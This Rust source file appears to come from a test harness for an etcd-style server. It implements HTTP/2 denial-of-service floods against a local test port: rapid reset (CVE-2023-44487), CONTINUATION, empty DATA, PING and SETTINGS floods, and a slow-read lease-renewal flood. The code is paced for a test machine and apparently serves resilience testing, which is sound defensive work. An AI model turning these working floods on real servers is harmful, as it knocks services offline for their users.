//! Floods: many small frames that cost the server more than the attacker.

use std::io;
use std::time::Duration;

use api::etcdserverpb::LeaseKeepAliveRequest;
use prost::Message;

use super::ground::{AttackPace, Ground};
use crate::attack::http2::connection::{RawConnection, ReadMode};
use crate::attack::http2::frame;
use crate::attack::http2::requests;

/// Limits of a flood by a few hosts. Each attacker is paced so that the test machine has processor
/// time left for the server.
const ATTACKERS: usize = 4;
const FRAMES_PER_SECOND: u64 = 25_000;
/// Frames per write.
const BATCH: u64 = 64;

/// Opens calls and resets them immediately (CVE-2023-44487).
pub async fn rapid_reset(ground: Ground) {
    ground.keep(ATTACKERS, rapid_reset_session).await;
}

async fn rapid_reset_session(ground: Ground) -> io::Result<()> {
    let mut connection = RawConnection::open(ground.client_port(), &[], ReadMode::Everything).await?;
    let (headers, body) = (frame::call_headers(requests::RANGE), frame::message(&requests::range_of_one()));
    let mut pace = AttackPace::new(FRAMES_PER_SECOND);
    loop {
        let mut out = Vec::new();
        for _ in 0..BATCH {
            let stream = connection.put_call(&mut out, &headers, &body);
            frame::put(&mut out, frame::RST_STREAM, 0, stream, &frame::CANCEL.to_be_bytes());
        }
        connection.send(&out).await?;
        ground.ledger.add_acts(BATCH);
        pace.take(BATCH).await;
    }
}

/// Sends a header block without an end (CVE-2023-45288, CVE-2024-27316).
pub async fn continuation(ground: Ground) {
    ground.keep(ATTACKERS, continuation_session).await;
}

async fn continuation_session(ground: Ground) -> io::Result<()> {
    let mut connection = RawConnection::open(ground.client_port(), &[], ReadMode::Everything).await?;
    let mut out = Vec::new();
    let stream = connection.next_stream();
    frame::put(&mut out, frame::HEADERS, 0, stream, &frame::call_headers(requests::RANGE));
    connection.send(&out).await?;
    let mut field = Vec::new();
    frame::put_field(&mut field, "x", &"a".repeat(1000));
    let block = field.repeat(frame::PAYLOAD_BYTES_MAX / field.len());
    out.clear();
    frame::put(&mut out, frame::CONTINUATION, 0, stream, &block);
    // Large frames: 4,000 a second are 64 MB/s.
    repeat(&ground, &connection, &out, 1, 4_000).await
}

/// Sends a body of empty frames (CVE-2019-9518).
pub async fn empty_data(ground: Ground) {
    ground.keep(ATTACKERS, empty_data_session).await;
}

async fn empty_data_session(ground: Ground) -> io::Result<()> {
    let mut connection = RawConnection::open(ground.client_port(), &[], ReadMode::Everything).await?;
    let mut out = Vec::new();
    let stream = connection.put_open_call(&mut out, &frame::call_headers(requests::PUT), &[]);
    connection.send(&out).await?;
    out.clear();
    (0..BATCH).for_each(|_| frame::put(&mut out, frame::DATA, 0, stream, &[]));
    repeat(&ground, &connection, &out, BATCH, FRAMES_PER_SECOND).await
}

/// Sends pings, each of which requires an acknowledgement (CVE-2019-9512).
pub async fn ping(ground: Ground) {
    ground.keep(ATTACKERS, ping_session).await;
}

async fn ping_session(ground: Ground) -> io::Result<()> {
    let connection = RawConnection::open(ground.client_port(), &[], ReadMode::Everything).await?;
    let mut out = Vec::new();
    (0..BATCH).for_each(|_| frame::put(&mut out, frame::PING, 0, 0, b"attacker"));
    repeat(&ground, &connection, &out, BATCH, FRAMES_PER_SECOND).await
}

/// Sends settings that change the windows of all open streams (CVE-2019-9515).
pub async fn settings(ground: Ground) {
    ground.keep(ATTACKERS, settings_session).await;
}

async fn settings_session(ground: Ground) -> io::Result<()> {
    const OPEN_STREAMS: u32 = 100;
    let mut connection = RawConnection::open(ground.client_port(), &[], ReadMode::Everything).await?;
    let mut out = Vec::new();
    for _ in 0..OPEN_STREAMS {
        connection.put_open_call(&mut out, &frame::call_headers(requests::PUT), &[]);
    }
    connection.send(&out).await?;
    out.clear();
    for number in 0..BATCH {
        let bytes = if number % 2 == 0 { 1 } else { 65_535 };
        frame::put_settings(&mut out, &[(frame::INITIAL_WINDOW_SIZE, bytes)]);
    }
    repeat(&ground, &connection, &out, BATCH, FRAMES_PER_SECOND).await
}

/// Connections that send lease renewals without reading the responses. They stay connected while
/// the server reads slowly.
const RENEWAL_CONNECTIONS: usize = 300;
const RENEWALS_PER_SECOND: u64 = 5_000;

pub async fn renewals(ground: Ground) {
    ground.keep(RENEWAL_CONNECTIONS, renewals_session).await;
}

async fn renewals_session(ground: Ground) -> io::Result<()> {
    let mut connection = RawConnection::open(ground.client_port(), &[], ReadMode::Nothing).await?;
    let renewal = frame::message(&LeaseKeepAliveRequest { id: 7 }.encode_to_vec());
    let mut out = Vec::new();
    let stream = connection.put_open_call(&mut out, &frame::call_headers(requests::KEEP_ALIVE), &renewal);
    connection.send(&out).await?;
    out.clear();
    (0..BATCH).for_each(|_| frame::put(&mut out, frame::DATA, 0, stream, &renewal));
    let mut pace = AttackPace::new(RENEWALS_PER_SECOND);
    loop {
        connection.send(&out).await?;
        ground.ledger.add_acts(BATCH);
        pace.take(BATCH).await;
    }
}

/// Sends the same frames until the server closes the connection or the attack is over.
async fn repeat(
    ground: &Ground,
    connection: &RawConnection,
    frames: &[u8],
    count: u64,
    per_second: u64,
) -> io::Result<()> {
    let mut pace = AttackPace::new(per_second);
    loop {
        // A stalled server blocks the attacker; that does not count as an act.
        let sent = tokio::time::timeout(Duration::from_secs(1), connection.send(frames)).await;
        if let Ok(sent) = sent {
            sent?;
            ground.ledger.add_acts(count);
        } else {
            return Err(io::ErrorKind::TimedOut.into());
        }
        pace.take(count).await;
    }
}
